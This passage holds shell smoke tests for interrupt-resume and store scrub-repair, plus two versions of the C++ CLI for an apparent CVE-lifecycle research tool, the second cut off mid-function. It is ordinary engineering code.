#!/bin/sh
# Kill-and-resume smoke for the journaled study CLI.
#
#   kill_resume_smoke.sh <cvewb-binary> <workdir> <threads>
#
# Two legs:
#
#  1. Deterministic interrupt: --chaos-cancel-after traffic fires the cancel
#     token at the exact instant the traffic checkpoint lands in the journal
#     (the worst-case moment for a signal to arrive).  The CLI must exit 75
#     (EX_TEMPFAIL: incomplete but resumable).
#
#  2. Real SIGTERM: the same study launched in the background and killed
#     mid-flight.  The run is fast, so the signal may land during the run
#     (exit 75: checkpointed and resumable), after it (exit 0: won the
#     race), or before the handler is even armed (exit 143: default
#     disposition, a hard kill).  All three are legitimate -- the invariant
#     under test is that the rerun converges to the reference digest from
#     whatever state the interruption left behind.
#
# After each interruption, rerunning the identical command must complete
# and emit a digest byte-identical to an uninterrupted reference run.
set -eu

CVEWB=$1
DIR=$2
THREADS=$3
SEED=7
SCALE=0.05

rm -rf "$DIR"
mkdir -p "$DIR"

run_study() {
    # shellcheck disable=SC2086  # deliberate word splitting of extra flags
    "$CVEWB" study --seed "$SEED" --scale "$SCALE" --threads "$THREADS" $1 \
        > /dev/null 2>&1
}

# Uninterrupted, cache-free reference digest.
run_study "--digest-out $DIR/reference.txt"

# --- Leg 1: deterministic interrupt at the traffic checkpoint --------------
STATUS=0
run_study "--cache-dir $DIR/cache_det --chaos-cancel-after traffic" || STATUS=$?
if [ "$STATUS" -ne 75 ]; then
    echo "FAIL: chaos-cancel run exited $STATUS, expected 75" >&2
    exit 1
fi
run_study "--cache-dir $DIR/cache_det --digest-out $DIR/resumed_det.txt"
cmp "$DIR/reference.txt" "$DIR/resumed_det.txt" || {
    echo "FAIL: resumed digest differs from reference (deterministic leg)" >&2
    exit 1
}

# --- Leg 2: a real SIGTERM mid-run -----------------------------------------
"$CVEWB" study --seed "$SEED" --scale "$SCALE" --threads "$THREADS" \
    --cache-dir "$DIR/cache_sig" > /dev/null 2>&1 &
PID=$!
# Give the process a beat to arm its handler so mid-run (75) stays the
# common case; the early- and late-landing races remain acceptable.
sleep 0.1
kill -TERM "$PID" 2>/dev/null || true
STATUS=0
wait "$PID" || STATUS=$?
if [ "$STATUS" -ne 75 ] && [ "$STATUS" -ne 0 ] && [ "$STATUS" -ne 143 ]; then
    echo "FAIL: SIGTERMed run exited $STATUS, expected 75, 0, or 143" >&2
    exit 1
fi
run_study "--cache-dir $DIR/cache_sig --digest-out $DIR/resumed_sig.txt"
cmp "$DIR/reference.txt" "$DIR/resumed_sig.txt" || {
    echo "FAIL: resumed digest differs from reference (SIGTERM leg)" >&2
    exit 1
}

echo "kill-resume smoke ok (threads=$THREADS, sigterm leg exited $STATUS)"
