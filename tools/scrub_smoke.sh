#!/bin/sh
# Self-healing scrub smoke for the persistent session store CLI.
#
#   scrub_smoke.sh <cvewb-binary> <workdir>
#
# Legs:
#
#  1. Reference: ingest two runs with a checkpoint after each, so the
#     store carries the full tier shape (snapshot + range segment + two
#     arc- archives); record both table digests and require a clean scrub
#     to exit 0.
#
#  2. Detect: truncate a stale archive -- the one class of file a normal
#     open never reads, so only the scrub sweep can catch the damage.
#     `store scrub` without --repair must exit nonzero, name the damaged
#     file, and leave the directory untouched.
#
#  3. Repair: `store scrub --repair` must quarantine the damaged archive
#     (a .quar file appears), rebuild, and exit 0 with zero lost commits;
#     verify passes and both table digests still match the reference --
#     the base tiers carry the data, so losing stale redundancy is
#     lossless.
#
#  4. Steady state: a second scrub of the repaired store is clean, and the
#     quarantined file is still there, byte-for-byte untouched.
set -eu

CVEWB=$1
DIR=$2
STORE=$DIR/store

rm -rf "$DIR"
mkdir -p "$DIR"

ingest() {
    # Shared cache dir: the study reruns are warm, the smoke stays fast.
    "$CVEWB" store ingest "$STORE" --seed "$1" --scale 0.005 --threads 2 \
        --cache-dir "$DIR/cache" > /dev/null
    "$CVEWB" store checkpoint "$STORE" > /dev/null
}

digest() {
    "$CVEWB" store query "$STORE" --table "$1" --limit 0 | sed -n 's/^digest //p'
}

# --- Leg 1: reference shape + clean scrub ----------------------------------
ingest 7
ingest 8
"$CVEWB" store verify "$STORE" > /dev/null
REF_SESSIONS=$(digest sessions)
REF_EVENTS=$(digest events)
[ -n "$REF_SESSIONS" ] && [ -n "$REF_EVENTS" ] || {
    echo "FAIL: reference digests empty" >&2
    exit 1
}
ARC=$(ls "$STORE"/arc-*.cvwba | head -n 1)
[ -n "$ARC" ] || {
    echo "FAIL: checkpoints produced no arc- archives" >&2
    exit 1
}
"$CVEWB" store scrub "$STORE" > /dev/null || {
    echo "FAIL: clean store failed scrub" >&2
    exit 1
}

# --- Leg 2: damage a stale archive; scrub detects, refuses to touch it -----
truncate -s -1 "$ARC"
STATUS=0
SCRUB_OUT=$("$CVEWB" store scrub "$STORE" 2>&1) || STATUS=$?
if [ "$STATUS" -eq 0 ]; then
    echo "FAIL: scrub exited 0 on a damaged archive" >&2
    exit 1
fi
echo "$SCRUB_OUT" | grep -q "damaged: $(basename "$ARC")" || {
    echo "FAIL: scrub did not name the damaged archive" >&2
    echo "$SCRUB_OUT" >&2
    exit 1
}
[ -f "$ARC" ] || {
    echo "FAIL: read-only scrub moved the damaged file" >&2
    exit 1
}

# --- Leg 3: repair quarantines and rebuilds losslessly ---------------------
"$CVEWB" store scrub "$STORE" --repair > /dev/null || {
    echo "FAIL: scrub --repair did not recover the store" >&2
    exit 1
}
[ -f "$ARC.quar" ] || {
    echo "FAIL: damaged archive was not quarantined" >&2
    exit 1
}
"$CVEWB" store verify "$STORE" > /dev/null || {
    echo "FAIL: repaired store failed verify" >&2
    exit 1
}
[ "$(digest sessions)" = "$REF_SESSIONS" ] || {
    echo "FAIL: sessions digest changed across quarantine+rebuild" >&2
    exit 1
}
[ "$(digest events)" = "$REF_EVENTS" ] || {
    echo "FAIL: events digest changed across quarantine+rebuild" >&2
    exit 1
}

# --- Leg 4: quarantine is permanent, steady state is clean -----------------
QUAR_SUM=$(cksum "$ARC.quar")
"$CVEWB" store scrub "$STORE" > /dev/null || {
    echo "FAIL: repaired store failed a steady-state scrub" >&2
    exit 1
}
[ "$(cksum "$ARC.quar")" = "$QUAR_SUM" ] || {
    echo "FAIL: a later scrub touched the quarantined file" >&2
    exit 1
}

echo "scrub smoke: ok (damage detected, quarantined, rebuilt to identical digests)"
