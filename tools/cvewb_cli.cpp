// cvewb -- command-line front end for the CVE Wayback Machine library.
//
//   cvewb study [--seed N] [--scale F]    run the study, print Tables 4/5
//   cvewb rules                           print the synthetic study ruleset
//   cvewb baselines                       print the CERT Markov baselines
//   cvewb artifacts [--seed N]            emit §8.2 disclosure artifacts (JSON)
//   cvewb pcap <file> [--seed N] [--scale F]
//                                         write a capture archive to <file>
//   cvewb lifecycle <CVE-id>              print one CVE's lifecycle timeline
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>

#include "ids/rule_gen.h"
#include "data/cve_table_io.h"
#include "lifecycle/markov.h"
#include "net/pcap.h"
#include "pipeline/study.h"
#include "report/disclosure_artifact.h"
#include "report/export.h"
#include "report/table.h"

namespace {

using namespace cvewb;

struct Options {
  std::uint64_t seed = 2023;
  double scale = 0.1;
  std::vector<std::string> positional;
};

Options parse_options(int argc, char** argv) {
  Options options;
  for (int i = 2; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--seed" && i + 1 < argc) {
      options.seed = std::strtoull(argv[++i], nullptr, 10);
    } else if (arg == "--scale" && i + 1 < argc) {
      options.scale = std::strtod(argv[++i], nullptr);
    } else {
      options.positional.push_back(arg);
    }
  }
  return options;
}

pipeline::StudyConfig study_config(const Options& options) {
  pipeline::StudyConfig config;
  config.seed = options.seed;
  config.event_scale = options.scale;
  return config;
}

int cmd_study(const Options& options) {
  const auto result = pipeline::run_study(study_config(options));
  std::cout << "sessions: " << result.traffic.sessions.size()
            << ", matched: " << result.reconstruction.sessions_matched
            << ", CVEs: " << result.reconstruction.timelines.size() << "\n\n";
  std::cout << "Table 4 (per-CVE):\n"
            << report::render_skill_table(result.table4, &report::paper_table4_satisfied(),
                                          &report::paper_table4_skill())
            << "\nTable 5 (per-event):\n"
            << report::render_skill_table(result.table5, &report::paper_table5_satisfied(),
                                          &report::paper_table5_skill());
  std::cout << "\nmitigated exposure: "
            << report::fmt(result.exposure.mitigated_fraction() * 100, 1) << "%\n";
  return 0;
}

int cmd_rules() {
  std::cout << ids::generate_study_ruleset().serialize();
  return 0;
}

int cmd_baselines() {
  const auto probs = lifecycle::pair_probabilities(lifecycle::cert_model());
  report::TextTable table({"desideratum", "baseline f_d"});
  for (const auto& d : lifecycle::studied_desiderata()) {
    table.add_row({d.label(),
                   report::fmt(probs[lifecycle::index_of(d.before)][lifecycle::index_of(d.after)],
                               4)});
  }
  std::cout << table.render();
  return 0;
}

int cmd_artifacts(const Options&) {
  const auto timelines = lifecycle::study_timelines();
  std::cout << report::artifacts_document(timelines).dump(2) << "\n";
  return 0;
}

int cmd_pcap(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb pcap <file> [--seed N] [--scale F]\n";
    return 2;
  }
  const auto config = study_config(options);
  const auto dscope = pipeline::make_study_telescope(config);
  traffic::InternetConfig internet;
  internet.seed = config.seed;
  internet.event_scale = config.event_scale;
  const auto traffic = traffic::generate_traffic(dscope, internet);
  std::ofstream out(options.positional[0], std::ios::binary);
  if (!out) {
    std::cerr << "cannot open " << options.positional[0] << "\n";
    return 1;
  }
  net::PcapWriter writer(out, 1460);
  for (const auto& session : traffic.sessions) writer.write_session(session);
  std::cout << "wrote " << writer.packets_written() << " packets ("
            << traffic.sessions.size() << " sessions) to " << options.positional[0] << "\n";
  return 0;
}

int cmd_dataset() {
  std::cout << data::cve_table_to_csv(data::appendix_e());
  return 0;
}

int cmd_export(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb export <directory> [--seed N] [--scale F]\n";
    return 2;
  }
  const auto result = pipeline::run_study(study_config(options));
  const auto written = report::export_study(options.positional[0], result);
  for (const auto& path : written) std::cout << "wrote " << path.string() << "\n";
  return 0;
}

int cmd_lifecycle(const Options& options) {
  if (options.positional.empty()) {
    std::cerr << "usage: cvewb lifecycle <CVE-id>\n";
    return 2;
  }
  const auto& id = options.positional[0];
  for (const auto& tl : lifecycle::study_timelines()) {
    if (tl.cve_id() != id) continue;
    const auto published = tl.at(lifecycle::Event::kPublicAwareness);
    report::TextTable table({"event", "instant", "offset from P"});
    for (lifecycle::Event e : lifecycle::kAllEvents) {
      const auto t = tl.at(e);
      table.add_row({std::string(lifecycle::event_name(e)),
                     t ? util::format_datetime(*t) : std::string("-"),
                     t && published ? util::format_offset(*t - *published) : std::string("-")});
    }
    std::cout << table.render();
    return 0;
  }
  std::cerr << id << " is not one of the 63 studied CVEs\n";
  return 1;
}

void usage() {
  std::cerr << "usage: cvewb <study|rules|baselines|artifacts|pcap|export|dataset|lifecycle> [options]\n"
               "  study      run the end-to-end study (--seed, --scale)\n"
               "  rules      print the synthetic Snort-subset study ruleset\n"
               "  baselines  print the CERT Markov baseline probabilities\n"
               "  artifacts  emit machine-readable disclosure artifacts (JSON)\n"
               "  pcap FILE  generate a capture archive (--seed, --scale)\n"
               "  export DIR write tables/figures/artifacts to a directory\n"
               "  dataset    dump the studied-CVE table as CSV\n"
               "  lifecycle CVE-YYYY-NNNN  print one studied CVE's timeline\n";
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    usage();
    return 2;
  }
  const std::string command = argv[1];
  const Options options = parse_options(argc, argv);
  if (command == "study") return cmd_study(options);
  if (command == "rules") return cmd_rules();
  if (command == "baselines") return cmd_baselines();
  if (command == "artifacts") return cmd_artifacts(options);
  if (command == "pcap") return cmd_pcap(options);
  if (command == "export") return cmd_export(options);
  if (command == "dataset") return cmd_dataset();
  if (command == "lifecycle") return cmd_lifecycle(options);
  usage();
  return 2;
}
