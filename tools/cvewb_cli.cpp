// cvewb -- command-line front end for the CVE Wayback Machine library.
//
//   cvewb study [--seed N] [--scale F]    run the study, print Tables 4/5
//   cvewb rules                           print the synthetic study ruleset
//   cvewb baselines                       print the CERT Markov baselines
//   cvewb artifacts [--seed N]            emit §8.2 disclosure artifacts (JSON)
//   cvewb pcap <file> [--seed N] [--scale F]
//                                         write a capture archive to <file>
//   cvewb lifecycle <CVE-id>              print one CVE's lifecycle timeline
//   cvewb trace-verify <file>             validate an emitted trace.json
//
// Observability (study / export): --trace-out FILE writes a Chrome
// trace-event JSON (load in chrome://tracing or Perfetto), --metrics-out
// FILE writes the counter/gauge/histogram registry plus a memory sample.
// Both are side-channels: the study's outputs are byte-identical with or
// without them.  --threads N forwards to StudyConfig.threads.
//
// Robustness (study): SIGINT/SIGTERM cancel the run cooperatively -- the
// study checkpoints at the next stage/shard boundary and exits 75
// (EX_TEMPFAIL); rerunning the same command with the same --cache-dir
// resumes from the journal and converges to the identical digest.
// --deadline-ms N bounds each stage's wall clock, --max-retries N bounds
// cache/report I/O re-attempts (exponential backoff).
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstring>
#include <fstream>
#include <iostream>
#include <memory>
#include <sstream>
#include <string>

#include "cache/key.h"
#include "cache/serialize.h"
#include "cache/store.h"
#include "net/ipv4.h"
#include "store/store.h"
#include "ids/rule_gen.h"
#include "data/cve_table_io.h"
#include "lifecycle/markov.h"
#include "net/pcap.h"
#include "obs/observability.h"
#include "pipeline/study.h"
#include "pipeline/supervisor.h"
#include "report/disclosure_artifact.h"
#include "report/export.h"
#include "report/table.h"
#include "util/cancel.h"
#include "util/sha256.h"
#include "util/strings.h"

namespace {

using namespace cvewb;

struct Options {
  std::uint64_t seed = 2023;
  double scale = 0.1;
  int threads = 0;
  bool stage_dag = true;  // --no-dag forces the barrier-per-stage sequence
  std::string trace_out;
  std::string metrics_out;
  std::string cache_dir;
  std::string digest_out;
  std::string store_dir;
  // store query predicates (strings; validated/parsed by cmd_store)
  std::string table = "sessions";
  std::string cve;
  std::string run;
  std::string begin;
  std::string end;
  std::string src;
  std::string sid;
  std::string mode = "index";
  std::int64_t limit = 64;
  bool explain = false;  // store query: print the planner's verdict too
  bool repair = false;   // store scrub: quarantine damage and rebuild
  // Test hook: _exit(137) right after the next WAL segment rename lands,
  // before the commit is acknowledged -- the store smoke test's
  // worst-timed hard kill.
  bool crash_after_wal = false;
  std::uint64_t keep_bytes = 0;
  std::int64_t deadline_ms = 0;  // per-stage budget; 0 = unlimited
  int max_retries = 0;           // cache/report I/O re-attempts
  // Test hook: fire the cancel token right after this stage's checkpoint
  // persists -- a deterministic stand-in for a signal landing exactly on a
  // stage boundary (the kill-resume smoke uses it; "" = disabled).
  std::string chaos_cancel_after;
  std::vector<std::string> positional;
};

/// Process-wide cancellation token: the signal handler fires it, the
/// supervised study polls it.  request_cancel is one relaxed atomic CAS,
/// so calling it from the handler is async-signal-safe.
util::CancelToken g_cancel;

extern "C" void handle_cancel_signal(int) { g_cancel.request_cancel(); }

/// Parse the flags after the command word into `options`.  Numeric flags
/// go through the shared full-token parsers (util/strings.h): a typo'd
/// value ("--seed 1x", "--scale nan", "--limit 9e99") is a usage error
/// with a diagnostic and a false return, never a silently-zeroed number
/// (the strtol failure mode this replaced).
bool parse_options(int argc, char** argv, Options& options) {
  const auto bad_value = [](const std::string& flag, const char* want, const char* got) {
    std::cerr << "cvewb: " << flag << " expects " << want << ", got '" << got << "'\n";
    return false;
  };
  const auto int_in_range = [&](const std::string& flag, const char* text, std::int64_t lo,
                                std::int64_t hi, std::int64_t& out) {
    std::int64_t value = 0;
    if (!util::parse_i64(text, value) || value < lo || value > hi) {
      return bad_value(flag, "an integer in range", text);
    }
    out = value;
    return true;
  };
  for (int i = 2; i < argc; ++i) {
    const std::string arg = argv[i];
    if (arg == "--seed" && i + 1 < argc) {
      if (!util::parse_u64(argv[++i], options.seed)) {
        return bad_value(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--scale" && i + 1 < argc) {
      if (!util::parse_finite_double(argv[++i], options.scale)) {
        return bad_value(arg, "a finite number", argv[i]);
      }
    } else if (arg == "--threads" && i + 1 < argc) {
      std::int64_t threads = 0;
      if (!int_in_range(arg, argv[++i], 0, 4096, threads)) return false;
      options.threads = static_cast<int>(threads);
    } else if (arg == "--trace-out" && i + 1 < argc) {
      options.trace_out = argv[++i];
    } else if (arg == "--metrics-out" && i + 1 < argc) {
      options.metrics_out = argv[++i];
    } else if (arg == "--cache-dir" && i + 1 < argc) {
      options.cache_dir = argv[++i];
    } else if (arg == "--digest-out" && i + 1 < argc) {
      options.digest_out = argv[++i];
    } else if (arg == "--store-dir" && i + 1 < argc) {
      options.store_dir = argv[++i];
    } else if (arg == "--table" && i + 1 < argc) {
      options.table = argv[++i];
    } else if (arg == "--cve" && i + 1 < argc) {
      options.cve = argv[++i];
    } else if (arg == "--run" && i + 1 < argc) {
      options.run = argv[++i];
    } else if (arg == "--begin" && i + 1 < argc) {
      options.begin = argv[++i];
    } else if (arg == "--end" && i + 1 < argc) {
      options.end = argv[++i];
    } else if (arg == "--src" && i + 1 < argc) {
      options.src = argv[++i];
    } else if (arg == "--sid" && i + 1 < argc) {
      options.sid = argv[++i];
    } else if (arg == "--mode" && i + 1 < argc) {
      options.mode = argv[++i];
    } else if (arg == "--limit" && i + 1 < argc) {
      if (!util::parse_i64(argv[++i], options.limit)) {
        return bad_value(arg, "an integer", argv[i]);
      }
    } else if (arg == "--explain") {
      options.explain = true;
    } else if (arg == "--repair") {
      options.repair = true;
    } else if (arg == "--no-dag") {
      options.stage_dag = false;
    } else if (arg == "--crash-after-wal") {
      options.crash_after_wal = true;
    } else if (arg == "--keep-bytes" && i + 1 < argc) {
      if (!util::parse_u64(argv[++i], options.keep_bytes)) {
        return bad_value(arg, "a non-negative integer", argv[i]);
      }
    } else if (arg == "--deadline-ms" && i + 1 < argc) {
      if (!util::parse_i64(argv[++i], options.deadline_ms)) {
        return bad_value(arg, "an integer", argv[i]);
      }
    } else if (arg == "--max-retries" && i + 1 < argc) {
      std::int64_t retries = 0;
      if (!int_in_range(arg, argv[++i], 0, 1000000, retries)) return false;
      options.max_retries = static_cast<int>(retries);
    } else if (arg == "--chaos-cancel-after" && i + 1 < argc) {
      options.chaos_cancel_after = argv[++i];
    } else {
      options.positional.push_back(arg);
    }
  }
  return true;
}

pipeline::StudyConfig study_config(const Options& options) {
  pipeline::StudyConfig config;
  config.seed = options.seed;
  config.event_scale = options.scale;
  config.threads = options.threads;
  config.stage_dag = options.stage_dag;
  config.cache_dir = options.cache_dir;
  config.store_dir = options.store_dir;
  if (options.deadline_ms > 0) config.stage_deadline = std::chrono::milliseconds(options.deadline_ms);
  if (options.max_retries > 0) config.io_retry.max_retries = options.max_retries;
  config.chaos_cancel_after_stage = options.chaos_cancel_after;
  return config;
}

/// Write the study's output digest (SHA-256 over the canonical binary
/// encoding of everything the study reports) when --digest-out was given.
/// The digest is what the cold/warm CI smoke compares: identical digests
/// prove the cached rerun reproduced the run byte-for-byte.
bool write_digest(const pipeline::StudyResult& result, const Options& options) {
  if (options.digest_out.empty()) return true;
  const std::string digest = util::sha256_hex(cache::encode_study_result(result));
  std::ofstream out(options.digest_out);
  if (!out) {
    std::cerr << "cannot open " << options.digest_out << "\n";
    return false;
  }
  out << digest << "\n";
  std::cerr << "result digest " << digest << "\n";
  return true;
}

/// Observability bundle for commands that run the study: engaged when the
/// user asked for either output file.
std::unique_ptr<obs::Observability> make_observability(const Options& options) {
  if (options.trace_out.empty() && options.metrics_out.empty()) return nullptr;
  return std::make_unique<obs::Observability>();
}

/// Write the requested trace/metrics files; false (with stderr noise) if
/// any of them cannot be written.
bool write_observability(const obs::Observability* observability, const Options& options) {
  if (observability == nullptr) return true;
  bool ok = true;
  const auto write_file = [&ok](const std::string& path, const util::Json& doc) {
    if (path.empty()) return;
    std::ofstream out(path);
    if (!out) {
      std::cerr << "cannot open " << path << "\n";
      ok = false;
      return;
    }
    out << doc.dump(2) << "\n";
    std::cerr << "wrote " << path << "\n";
  };
  write_file(options.trace_out, observability->tracer.to_json());
  write_file(options.metrics_out, observability->to_json());
  return ok;
}

int cmd_study(const Options& options) {
  auto observability = make_observability(options);
  pipeline::StudyConfig config = study_config(options);
  config.observability = observability.get();
  config.cancel = &g_cancel;

  // Cooperative shutdown: the handler only flips the token; the study
  // checkpoints at its next cancellation point and unwinds cleanly.
  std::signal(SIGINT, handle_cancel_signal);
  std::signal(SIGTERM, handle_cancel_signal);
  pipeline::RunSupervisor supervisor(config);
  pipeline::RunReport report = supervisor.run();
  std::signal(SIGINT, SIG_DFL);
  std::signal(SIGTERM, SIG_DFL);

  if (!report.ok()) {
    std::cerr << "study " << pipeline::run_status_name(report.status)
              << (report.stage.empty() ? "" : " in stage " + report.stage) << ": "
              << report.message << "\n";
    write_observability(observability.get(), options);
    if (report.resumable) {
      std::cerr << "checkpoint journaled in " << options.cache_dir
                << "; rerun the same command to resume\n";
      return 75;  // EX_TEMPFAIL: incomplete but safely resumable
    }
    return 1;
  }
  const pipeline::StudyResult& result = *report.result;
  std::cout << "sessions: " << result.traffic.sessions.size()
            << ", matched: " << result.reconstruction.sessions_matched
            << ", CVEs: " << result.reconstruction.timelines.size() << "\n\n";
  std::cout << "Table 4 (per-CVE):\n"
            << report::render_skill_table(result.table4, &report::paper_table4_satisfied(),
                                          &report::paper_table4_skill())
            << "\nTable 5 (per-event):\n"
            << report::render_skill_table(result.table5, &report::paper_table5_satisfied(),
                                          &report::paper_table5_skill());
  std::cout << "\nmitigated exposure: "
            << report::fmt(result.exposure.mitigated_fraction() * 100, 1) << "%\n";
  bool ok = write_observability(observability.get(), options);
  ok = write_digest(result, options) && ok;
  return ok ? 0 : 1;
}

/// `cvewb cache stat <dir>` / `cvewb cache gc <dir> [--keep-bytes N]`.
int cmd_cache(const Options& options) {
  if (options.positional.size() < 2) {
    std::cerr << "usage: cvewb cache <stat|gc> <dir> [--keep-bytes N]\n";
    return 2;
  }
  const std::string& action = options.positional[0];
  const std::string& dir = options.positional[1];
  if (action == "stat") {
    const auto stat = cache::CacheStore::stat_dir(dir);
    std::cout << dir << ": " << stat.entries << " entries, " << stat.file_bytes
              << " bytes on disk (" << stat.payload_bytes << " payload bytes), "
              << stat.corrupt << " corrupt\n";
    return 0;
  }
  if (action == "gc") {
    const auto result = cache::CacheStore::gc(dir, options.keep_bytes);
    std::cout << dir << ": removed " << result.removed << " entries (" << result.removed_bytes
              << " bytes, " << result.corrupt_removed << " corrupt, " << result.tmp_removed
              << " stray temps), kept " << result.kept << " entries (" << result.kept_bytes
              << " bytes)\n";
    return 0;
  }
  std::cerr << "unknown cache action '" << action << "' (expected stat or gc)\n";
  return 2;
}

/// `cvewb store <ingest|query|stat|checkpoint|compact|verify|scrub> <dir>` -- the
/// persistent indexed session store (DESIGN.md §13).
///
///   ingest   run the study (--seed/--scale/--cache-dir apply) and commit
///            its sessions + events under cache::run_key; idempotent.
///            --crash-after-wal hard-kills the process right after the WAL
///            rename (crash-recovery smoke hook).
///   query    planned scan (--table, --cve, --run, --begin, --end, --src,
///            --sid, --limit, --mode index|brute); prints count, plan
///            label, full-match-set digest, and up to --limit rows.
///            --explain additionally prints the planner's verdict (per-index
///            cardinalities, drivers, cost estimates) before executing.
///   stat     row/run/WAL/tier counters.
///   checkpoint  fold the live WAL into the base tier chain (each folded
///            segment is retired to an arc- archive).
///   compact  merge the base tier chain into a single snapshot.
///   verify   deep consistency check (rebuilds and compares every index).
///   scrub    re-validate every store file against its current on-disk
///            bytes; with --repair, quarantine damaged files and rebuild
///            from the surviving WAL/archive chain.
int cmd_store(const Options& options) {
  if (options.positional.size() < 2) {
    std::cerr << "usage: cvewb store <ingest|query|stat|checkpoint|compact|verify|scrub> <dir> [options]\n";
    return 2;
  }
  const std::string& action = options.positional[0];
  const std::string& dir = options.positional[1];
  store::StoreError error;
  auto store = store::Store::open(dir, {}, &error);
  if (store == nullptr) {
    std::cerr << dir << ": cannot open store: " << store::store_error_name(error.code) << ": "
              << error.detail << "\n";
    return 1;
  }

  if (action == "ingest") {
    pipeline::StudyConfig config = study_config(options);
    config.store_dir.clear();  // this command IS the ingest; don't do it twice
    const std::string run_key = cache::run_key(config);
    if (store->contains_run(run_key)) {
      std::cout << "run " << run_key << " already ingested\n";
      return 0;
    }
    const pipeline::StudyResult result = pipeline::run_study(config);
    if (options.crash_after_wal) store->crash_after_next_wal_rename_for_test();
    if (!store->ingest(result, run_key, &error)) {
      std::cerr << "ingest failed: " << store::store_error_name(error.code) << ": "
                << error.detail << "\n";
      return 1;
    }
    const store::StoreStats stats = store->stats();
    std::cout << "ingested run " << run_key << ": " << stats.session_rows << " session rows, "
              << stats.event_rows << " event rows, " << stats.runs << " runs, lsn "
              << stats.last_lsn << "\n";
    return 0;
  }

  if (action == "query") {
    store::Query query;
    if (options.table == "events") {
      query.table = store::Table::kEvents;
    } else if (options.table != "sessions") {
      std::cerr << "--table must be sessions or events\n";
      return 2;
    }
    if (!options.cve.empty()) query.cve = options.cve;
    if (!options.run.empty()) query.run = options.run;
    const auto parse_time = [](const std::string& text) -> std::optional<std::int64_t> {
      if (const auto date = util::parse_date(text)) return date->unix_seconds();
      std::int64_t seconds = 0;
      if (!util::parse_i64(text, seconds)) return std::nullopt;
      return seconds;
    };
    if (!options.begin.empty()) {
      query.time_begin = parse_time(options.begin);
      if (!query.time_begin) {
        std::cerr << "--begin must be YYYY-MM-DD or unix seconds\n";
        return 2;
      }
    }
    if (!options.end.empty()) {
      query.time_end = parse_time(options.end);
      if (!query.time_end) {
        std::cerr << "--end must be YYYY-MM-DD or unix seconds\n";
        return 2;
      }
    }
    if (!options.src.empty()) {
      const auto addr = net::IPv4::parse(options.src);
      if (!addr) {
        std::cerr << "--src must be a dotted quad\n";
        return 2;
      }
      query.src = addr->value();
    }
    if (!options.sid.empty()) {
      std::int64_t sid = 0;
      if (!util::parse_i64(options.sid, sid) || sid < INT32_MIN || sid > INT32_MAX) {
        std::cerr << "--sid must be a 32-bit integer\n";
        return 2;
      }
      query.sid = static_cast<std::int32_t>(sid);
    }
    if (options.limit >= 0) query.limit = static_cast<std::uint64_t>(options.limit);
    store::QueryMode mode = store::QueryMode::kIndex;
    if (options.mode == "brute") {
      mode = store::QueryMode::kBrute;
    } else if (options.mode != "index") {
      std::cerr << "--mode must be index or brute\n";
      return 2;
    }
    if (options.explain) {
      const store::PlanReport report = store->plan(query);
      std::cout << "plan " << report.plan << " (" << (report.used_index ? "index" : "brute")
                << ")\n"
                << "  table rows " << report.table_rows << ", postings examined "
                << report.postings_examined << ", estimated candidates "
                << report.estimated_candidates << "\n";
      for (const auto& estimate : report.indexes) {
        std::cout << "  index " << estimate.index << ": cardinality " << estimate.cardinality
                  << (estimate.driver ? " (driver)" : "") << "\n";
      }
    }
    const store::QueryResult result = store->query(query, mode);
    std::cout << "matched " << result.matched << " scanned " << result.scanned << " mode "
              << (result.used_index ? "index" : "brute") << " plan " << result.plan
              << " postings " << result.postings_examined << "\n"
              << "digest " << result.digest_hex << "\n";
    for (const auto& row : result.rows) {
      std::cout << row.run_key << ' ' << row.seq << ' '
                << util::format_datetime(util::TimePoint(row.time)) << ' '
                << net::IPv4(row.src).to_string() << ' ' << row.cve << ' ' << row.sid;
      if (query.table == store::Table::kSessions) {
        std::cout << ' ' << net::IPv4(row.dst).to_string() << ' ' << row.src_port << ' '
                  << row.dst_port << ' ' << static_cast<int>(row.kind) << ' '
                  << row.payload_bytes;
      }
      std::cout << '\n';
    }
    return 0;
  }

  if (action == "stat") {
    const store::StoreStats stats = store->stats();
    std::cout << dir << ": " << stats.runs << " runs, " << stats.session_rows
              << " session rows, " << stats.event_rows << " event rows\n"
              << "  lsn " << stats.last_lsn << " (snapshot " << stats.snapshot_lsn << "), "
              << stats.wal_segments << " wal segments (" << stats.wal_bytes << " bytes), "
              << stats.base_segments << " base tiers (" << stats.snapshot_bytes << " bytes"
              << (stats.snapshot_mapped ? ", mmap" : "") << ", " << stats.compactions
              << " compactions), payload heap " << stats.payload_bytes << " bytes, "
              << stats.dropped_segments << " segments dropped at open\n";
    return 0;
  }

  if (action == "checkpoint") {
    if (!store->checkpoint(&error)) {
      std::cerr << dir << ": checkpoint failed: " << store::store_error_name(error.code) << ": "
                << error.detail << "\n";
      return 1;
    }
    const store::StoreStats stats = store->stats();
    std::cout << dir << ": checkpointed to lsn " << stats.snapshot_lsn << " ("
              << stats.base_segments << " base tiers, " << stats.archive_segments
              << " archives, " << stats.wal_segments << " live wal segments)\n";
    return 0;
  }

  if (action == "compact") {
    const std::uint64_t before = store->stats().base_segments;
    if (!store->compact(&error)) {
      std::cerr << dir << ": compact failed: " << store::store_error_name(error.code) << ": "
                << error.detail << "\n";
      return 1;
    }
    const store::StoreStats stats = store->stats();
    std::cout << dir << ": compacted " << before << " -> " << stats.base_segments
              << " base tiers (snapshot lsn " << stats.snapshot_lsn << ", "
              << stats.snapshot_bytes << " bytes)\n";
    return 0;
  }

  if (action == "verify") {
    if (!store->verify(&error)) {
      std::cerr << dir << ": verify FAILED: " << store::store_error_name(error.code) << ": "
                << error.detail << "\n";
      return 1;
    }
    std::cout << dir << ": ok (" << store->stats().session_rows << " session rows, "
              << store->stats().event_rows << " event rows, every index consistent)\n";
    return 0;
  }

  if (action == "scrub") {
    store::ScrubOptions scrub_options;
    scrub_options.repair = options.repair;
    store::ScrubReport report;
    const bool ok = store->scrub(scrub_options, &report, &error);
    std::cout << dir << ": scanned " << report.files_scanned << " files (" << report.snapshots
              << " snapshots, " << report.segments << " segments, " << report.wal_segments
              << " wal, " << report.archives << " archives)\n";
    for (const auto& name : report.damaged) std::cout << "  damaged: " << name << "\n";
    for (const auto& name : report.quarantined) std::cout << "  quarantined: " << name << "\n";
    if (report.repaired) {
